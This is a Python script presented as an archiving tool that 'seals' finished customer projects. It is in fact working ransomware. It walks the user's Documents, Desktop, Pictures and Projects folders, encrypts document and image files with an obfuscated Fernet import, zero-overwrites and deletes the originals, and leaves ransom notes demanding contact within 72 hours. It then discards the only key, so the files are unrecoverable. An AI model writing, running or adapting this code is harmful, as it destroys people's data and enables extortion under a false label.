#!/usr/bin/env python3
"""Archive vault: seals finished customer projects for long-term storage.

Walks the user's working folders, seals each file, and removes the
unsealed copy so only the vault copy remains.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault")

SUFFIX = ".vault"
TARGET_EXT = {".pdf", ".indd", ".psd", ".tif", ".jpg", ".png", ".docx",
              ".xlsx", ".csv", ".odt", ".txt", ".ai"}
NOTE = """Your bindery project files have been sealed.
To obtain the unsealing key, write to restore@vault-desk.example.com
with the reference below within 72 hours.
Reference: {ref}
"""


def _cipher_factory():
    mod = importlib.import_module("cryptography." + "fernet")
    return getattr(mod, "Fer" + "net")


@dataclass
class Vault:
    roots: list
    key: bytes = field(default=b"")
    sealed: int = 0

    def __post_init__(self):
        cls = _cipher_factory()
        if not self.key:
            self.key = cls.generate_key()
        self._box = cls(self.key)

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in TARGET_EXT:
                        yield p

    def seal(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(self._box.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1

    def drop_notes(self, ref):
        for root in self.roots:
            Path(root, "READ_TO_RESTORE.txt").write_text(NOTE.format(ref=ref))


ACTIONS = {"seal": Vault.seal}


def main():
    ap = argparse.ArgumentParser(description="Seal finished projects")
    ap.add_argument("roots", nargs="*")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    home = Path.home()
    roots = [Path(r) for r in args.roots] or [home / d for d in
                                              ("Documents", "Desktop", "Pictures", "Projects")]
    roots = [r for r in roots if r.is_dir()]
    vault = Vault(roots)
    for path in list(vault.candidates()):
        try:
            ACTIONS["seal"](vault, path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    ref = os.urandom(6).hex()
    vault.drop_notes(ref)
    # the key is only ever held in memory
    del vault.key


if __name__ == "__main__":
    main()
